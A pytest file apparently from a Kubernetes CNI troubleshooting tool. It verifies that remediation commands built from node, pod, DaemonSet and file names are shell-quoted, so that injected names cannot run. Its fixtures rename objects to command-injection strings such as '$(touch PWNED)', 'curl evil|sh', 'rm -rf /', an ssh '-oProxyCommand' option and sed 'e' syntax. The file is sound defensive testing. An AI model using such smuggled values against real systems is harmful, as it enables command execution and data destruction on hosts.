"""Commands a check composes from bundle values: every value is one shell word, quoted as `shlex.quote` does.

Each case renames objects of a fixture the check fires on (a node, a pod, a DaemonSet, a file) to hostile
names, and compares the composed command with the one built by hand with `shlex.quote`; the same builder
applied to the fixture's own plain names must give the command the fixture already produces (no needless
quotes on `kube-system` or `/etc/cni/net.d`).
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from shlex import quote as q

import pytest

from cnidoctor.bundle.reader import Bundle
from cnidoctor.bundle.sources import DirSource
from cnidoctor.catalog.placeholders import shell_comment, shell_join, shell_quote, ssh_command
from cnidoctor.diagnose.engine import diagnose
from cnidoctor.diagnose.rank import Finding
from tests.conftest import catalog, fixture_bundle_path

# Values that must never become part of a command: a second command, command substitution (both kinds),
# a quote that would close the surrounding one, and a space that would split the word.
NODE = "node-2;$(touch PWNED) 'x y'"
NODE_B = "node-1`id`"
POD = "web-1 && curl evil|sh"
DS = "kube-multus-ds$(id)"
FILE = "10-flannel '$(id)'.conflist"
DIR = "/usr/libexec/cni'$(id)"
ARCH = "amd64';id;'"


@pytest.mark.parametrize(
    "value",
    ["a; rm -rf /", "$(id)", "`id`", "name with space", "it's", "x\ny", "", "*", "~root", "a|b", "a&b", "a>b"],
)
def test_shell_quote_is_shlex_quote(value: str) -> None:
    assert shell_quote(value) == q(value)


@pytest.mark.parametrize("value", ["kube-system", "/etc/cni/net.d", "node-1", "calico-node-4nr84", "10.244.0.0/16"])
def test_plain_names_are_unchanged(value: str) -> None:
    assert shell_quote(value) == value


def test_a_leading_dash_is_never_an_option() -> None:
    assert shell_quote("-oProxyCommand=touch PWNED") == "'./-oProxyCommand=touch PWNED'"
    assert shell_quote("--all") == "./--all"
    assert shell_join(["node-1", "-rf", "a b"]) == "node-1 ./-rf 'a b'"


def test_comment_values_stay_on_one_line() -> None:
    assert shell_comment("a\nrm -rf /\r\nb") == "a rm -rf / b"


def test_ssh_command_quotes_the_remote_line_once_more() -> None:
    assert ssh_command("node-1", "sudo cat /opt/cni/bin/flannel") == "ssh node-1 sudo cat /opt/cni/bin/flannel"
    assert ssh_command("node-1", "curl -sSL u | sudo tar -xz") == "ssh node-1 'curl -sSL u | sudo tar -xz'"
    sed = 'sudo sed -i \'s/"a"/"b"/\' f'  # single quotes inside: "..." with its " escaped
    assert ssh_command("node-1", sed) == 'ssh node-1 "sudo sed -i \'s/\\"a\\"/\\"b\\"/\' f"'
    remote = f"sudo cat {q('$(id)')}"
    assert ssh_command(NODE, remote) == f"ssh {q(NODE)} {q(remote)}"
    assert ssh_command("-oProxyCommand=id", "true") == "ssh ./-oProxyCommand=id true"


def word(value: str) -> str:
    """What a composed command holds for VALUE: shlex.quote, after `./` when VALUE starts with `-`."""
    return q(f"./{value}" if value.startswith("-") else value)


# -- through the checks ---------------------------------------------------------------------------------------------


@dataclass
class Case:
    check: str
    fixture: str
    overlay: str | None
    key: str  # the value holding the composed command
    renames: dict[str, str]  # old -> new, in every file and path of the bundle
    expected: Callable[[dict[str, str]], str]  # the command, from the names (old -> name in the bundle)
    edits: dict[str, dict[str, str]] = field(default_factory=dict)  # path -> {old: new} in that file only
    edited: dict[str, str] = field(default_factory=dict)  # the names the edits change: old -> new

    def names(self, renamed: bool) -> dict[str, str]:
        return {old: new if renamed else old for old, new in {**self.renames, **self.edited}.items()}

    @property
    def id(self) -> str:
        return f"{self.check}-{self.fixture}-{self.overlay or 'plain'}"


CASES = [
    Case(
        "GEN003",
        "case-FL-02",
        None,
        "install_command",
        {"node-1": "-oProxyCommand=touch PWNED", "node-2": NODE},
        lambda n: (
            f"ssh {word(n['node-1'])} sudo cat /opt/cni/bin/flannel | ssh {q(n['node-2'])} "
            "'sudo tee /opt/cni/bin/flannel >/dev/null && sudo chmod 755 /opt/cni/bin/flannel'"
        ),
    ),
    Case(
        "GEN003",
        "case-MU-02",
        None,
        "install_command",
        {"node-2": NODE, "node-3": NODE_B},
        lambda n: (
            f'for n in {" ".join(q(x) for x in sorted(["node-1", n["node-2"], n["node-3"]]))}; do ssh "$n" '
            + q(
                "curl -sSL "
                + q(
                    "https://github.com/containernetworking/plugins/releases/download/v1.6.2/"
                    f"cni-plugins-linux-{n['amd64']}-v1.6.2.tgz"
                )
                + " | sudo tar -xz -C /opt/cni/bin"
            )
            + "; done"
        ),
        edits={"cluster/nodes.json": {'"architecture": "amd64"': f'"architecture": "{ARCH}"'}},
        edited={"amd64": ARCH},
    ),
    Case(
        "GEN005",
        "case-FL-10",
        None,
        "recreate_command",
        {"web-x4flbf872x-k6x8c": POD},
        lambda n: f"kubectl -n default delete pod {q(n['web-x4flbf872x-k6x8c'])} curl",
    ),
    Case(
        "GEN005",
        "healthy-flannel",
        "leftover-calico",
        "recreate_command",
        {"node-2": NODE},
        lambda n: f"kubectl get pods -A -o wide --field-selector {q('spec.nodeName=' + n['node-2'])}",
    ),
    Case(
        "GEN006",
        "healthy-flannel",
        "conflist-too-new",
        "fix_command",
        {"node-2": NODE, "10-flannel.conflist": FILE},
        lambda n: ssh_command(
            n["node-2"],
            'sudo sed -i \'s/"cniVersion": *"1.1.0"/"cniVersion": "1.0.0"/\' '
            + q(f"/etc/cni/net.d/{n['10-flannel.conflist']}"),
        ),
    ),
    Case(
        "GEN006",
        "healthy-flannel",
        "conflist-too-new",
        "fix_command",
        {"1.1.0": "1.1.0/;e id;s/x", "node-2": NODE},  # a version that would be sed syntax: not put in sed
        lambda n: (
            ssh_command(n["node-2"], "sudo grep -n cniVersion /etc/cni/net.d/10-flannel.conflist")
            + "  # set it to 1.0.0"
            if n["1.1.0"] != "1.1.0"
            else ssh_command(
                n["node-2"],
                'sudo sed -i \'s/"cniVersion": *"1.1.0"/"cniVersion": "1.0.0"/\' /etc/cni/net.d/10-flannel.conflist',
            )
        ),
    ),
    Case(
        "GEN006",
        "case-GE-03",
        None,
        "fix_command",
        {"node-3": NODE},
        lambda n: (
            ssh_command(
                n["node-3"],
                "curl -sSL "
                + q(
                    "https://github.com/containernetworking/plugins/releases/download/v1.6.2/"
                    f"cni-plugins-linux-{n['amd64']}-v1.6.2.tgz"
                )
                + " | sudo tar -xz -C /opt/cni/bin",
            )
            + f"  # or upgrade containerd on {n['node-3']} to >= 1.6.4"
        ),
        edits={"cluster/nodes.json": {'"architecture": "amd64"': f'"architecture": "{ARCH}"'}},
        edited={"amd64": ARCH},
    ),
    Case(
        "GEN053",
        "case-CA-06",
        None,
        "restart",
        {"calico-node-4nr84": POD},
        lambda n: f"kubectl -n kube-system delete pod {q(n['calico-node-4nr84'])}",
    ),
    Case(
        "GEN053",
        "case-CA-06",
        None,
        "fix",
        {},
        lambda n: f"kubectl -n kube-system set env {q('daemonset/' + n['calico-node'])} FELIX_IPTABLESBACKEND=NFT",
        edits={
            "cluster/kube-system/daemonsets.json": {'"name": "calico-node"': '"name": "calico-node;$(id)"'},
            "cluster/kube-system/pods.json": {'"name": "calico-node"': '"name": "calico-node;$(id)"'},
        },
        edited={"calico-node": "calico-node;$(id)"},
    ),
    Case(
        "GEN150",
        "healthy-calico",
        "calico-route-missing",
        "inspect",
        {},  # an agent's name is one of its CNI's pod name patterns: its namespace is the free-form value
        lambda n: (
            f"kubectl -n {q(n['kube-system'])} exec calico-node-mbjwr -c calico-node -- "
            "birdcl -s /var/run/calico/bird.ctl show protocols"
        ),
        edits={
            "cluster/kube-system/pods.json": {
                '"generateName": "calico-node-",\n        "namespace": "kube-system"': (
                    '"generateName": "calico-node-",\n        "namespace": "kube-system $(id)"'
                )
            }
        },
        edited={"kube-system": "kube-system $(id)"},
    ),
    Case(
        "GEN150",
        "healthy-calico",
        "calico-route-missing",
        "inspect",
        {"calico-node-mbjwr": "calico-node-mbjwr $(id)", "node-3": NODE},  # not an agent's name: no agent found
        lambda n: (
            f"kubectl get pods -A -o wide --field-selector {q('spec.nodeName=' + n['node-3'])}"
            if n["node-3"] != "node-3"
            else "kubectl -n kube-system exec calico-node-mbjwr -c calico-node -- "
            "birdcl -s /var/run/calico/bird.ctl show protocols"
        ),
    ),
    Case(
        "GEN002",
        "healthy-flannel",
        "tainted-node",
        "fix_command",
        {"kube-flannel-ds": "kube-flannel-ds;id"},
        lambda n: (
            f"kubectl -n kube-flannel patch daemonset {q(n['kube-flannel-ds'])} --type=json -p "
            '\'[{"op":"add","path":"/spec/template/spec/tolerations/-","value":{"operator":"Exists"}}]\''
        ),
    ),
    Case(
        "GEN002",
        "case-CI-04",
        None,
        "fix_command",
        {"cilium-t5p8d": "cilium-t5p8d$(id)"},
        lambda n: f"kubectl -n kube-system logs {q(n['cilium-t5p8d'])} --all-containers --previous --tail=50",
    ),
    Case(
        "GEN011",
        "healthy-flannel",
        "trailing-comma",
        "rewrite_command",
        {"kube-flannel-ds-2wtk2": POD},
        lambda n: (
            f"kubectl -n kube-flannel delete pod {q(n['kube-flannel-ds-2wtk2'])}  # its init container rewrites "
            "10-flannel.conflist from its config map"
        ),
    ),
    Case(
        "GEN004",
        "case-FL-02",
        "elsewhere",
        "show_command",
        {"node-2": NODE},
        lambda n: (
            f'ssh {q(n["node-2"])} "sudo containerd config dump | grep -n bin_dir" # set it to /usr/libexec/cni in '
            "/etc/containerd/config.toml, then: sudo systemctl restart containerd"
        ),
    ),
    Case(
        "GEN010",
        "healthy-calico",
        "pool-covers-nodes",
        "show_source_command",
        {"default-ipv4-ippool": "default-ipv4-ippool'$(id)'"},
        lambda n: f"kubectl get ippools.crd.projectcalico.org {q(n['default-ipv4-ippool'])} -o yaml",
    ),
    Case(
        "MUL001",
        "case-MU-01",
        None,
        "create_command",
        {"istio-cni": "istio-cni;$(id)"},
        lambda n: (
            f"kubectl -n istio-system get network-attachment-definitions.k8s.cni.cncf.io {q(n['istio-cni'])} -o json "
            "| jq '.metadata |= {name: .name, namespace: \"default\"}' | kubectl apply -f -"
        ),
    ),
    Case(
        "MUL001",
        "healthy-multus",
        "missing-everywhere",
        "create_command",
        {"sriov-net1": "sriov-net1 $(id)"},
        lambda n: f"kubectl -n telco apply -f <NetworkAttachmentDefinition manifest of {q(n['sriov-net1'])}>",
    ),
    Case(
        "MUL003",
        "healthy-multus",
        "crio-node",
        "fix_command",
        {"kube-multus-ds": DS, "/usr/libexec/cni": DIR},
        lambda n: (
            f"kubectl -n kube-system patch daemonset {q(n['kube-multus-ds'])} --type json -p "
            + q(
                json.dumps(
                    [
                        {
                            "op": "replace",
                            "path": "/spec/template/spec/volumes/1/hostPath/path",
                            "value": n["/usr/libexec/cni"],
                        }
                    ],
                    separators=(",", ":"),
                )
            )
        ),
    ),
    Case(
        "MUL010",
        "case-MU-07",
        None,
        "recreate_command",
        {"gateway-p8xtg97tk4-9mbgg": POD},
        lambda n: f"kubectl -n default delete pod {q(n['gateway-p8xtg97tk4-9mbgg'])}",
    ),
    Case(
        "MUL011",
        "case-MU-07",
        None,
        "recreate_command",
        {"gateway-p8xtg97tk4-9mbgg": POD},
        lambda n: f"kubectl -n default delete pod {q(n['gateway-p8xtg97tk4-9mbgg'])}",
    ),
    Case(
        "MUL011",
        "healthy-multus",
        "shadowed",
        "recreate_command",
        {"node-2": NODE},
        lambda n: (
            f"kubectl get pods -A --field-selector {q('spec.nodeName=' + n['node-2'])} -o jsonpath="
            "'{range .items[?(@.metadata.annotations.k8s\\.v1\\.cni\\.cncf\\.io/networks)]}"
            '{.metadata.namespace} {.metadata.name}{"\\n"}{end}\''
            " | while read ns p; do kubectl -n $ns delete pod $p; done"
        ),
    ),
]


def _copy(case: Case, dest: Path) -> Path:
    """The fixture with the check's overlay laid over it, renamed and edited as CASE says."""
    check = next(c for c in catalog() if c.id == case.check)
    shutil.copytree(fixture_bundle_path(case.fixture, check.folder), dest)
    if case.overlay:
        shutil.copytree(check.folder / case.overlay, dest, dirs_exist_ok=True)
    for path in sorted(dest.rglob("*"), key=lambda p: -len(p.parts)):  # deepest first: rename files, then folders
        if path.is_file():
            text = path.read_text(encoding="utf-8")
            for old, new in case.renames.items():
                text = text.replace(old, new)
            for old, new in case.edits.get(path.relative_to(dest).as_posix(), {}).items():
                text = text.replace(old, new)
            path.write_text(text, encoding="utf-8")
        name = path.name
        for old, new in case.renames.items():
            name = name.replace(old, new)
        if name != path.name:
            path.rename(path.with_name(name))
    return dest


def _finding(bundle: Path, check_id: str) -> Finding:
    check = next(c for c in catalog() if c.id == check_id)
    d = diagnose(Bundle([DirSource(bundle)]), [check])
    assert not [g for g in d.gaps if g.source == "check"], d.gaps
    findings = [f for f in d.findings if f.check.id == check_id]
    assert findings, f"{check_id} did not fire"
    return findings[0]


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_hostile_names_are_quoted_in_composed_commands(case: Case, tmp_path: Path) -> None:
    finding = _finding(_copy(case, tmp_path / "bundle"), case.check)
    expected = case.expected(case.names(renamed=True))
    assert finding.values[case.key] == expected
    assert any(expected in (s.command or "") for s in finding.remediation), [s.command for s in finding.remediation]


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_plain_names_render_unquoted(case: Case, tmp_path: Path) -> None:
    plain = Case(case.check, case.fixture, case.overlay, case.key, {}, case.expected)  # the fixture's own names
    finding = _finding(_copy(plain, tmp_path / "bundle"), case.check)
    assert finding.values[case.key] == case.expected(case.names(renamed=False))
